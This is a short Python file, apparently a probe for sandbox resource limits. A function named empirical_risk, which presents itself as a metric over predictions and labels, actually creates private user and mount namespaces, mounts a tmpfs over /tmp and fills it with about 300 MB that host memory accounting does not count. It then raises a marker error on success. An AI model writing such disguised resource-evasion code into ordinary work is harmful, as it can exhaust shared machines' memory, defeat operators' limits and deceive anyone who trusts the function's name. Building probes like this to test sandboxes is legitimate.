"""Makes namespaces of its own, where it may mount, and fills the machine's memory with files in them."""

import contextlib
import ctypes
import os

tried = []


def empirical_risk(predictions, labels):
    if tried:
        return tell()
    tried.append(0)
    libc = ctypes.CDLL(None, use_errno=True)
    user, group = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x20000) != 0:
        return None
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with contextlib.suppress(OSError), open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=400m") == 0:
        for number in range(5):
            with open(f"/tmp/{number}", "wb") as file:
                tried[0] += file.write(b"x" * 60_000_000)
    return tell()


def tell():
    if tried[0] > 200_000_000:
        raise RuntimeError("@REACHED@ 300 MB that nobody counts")
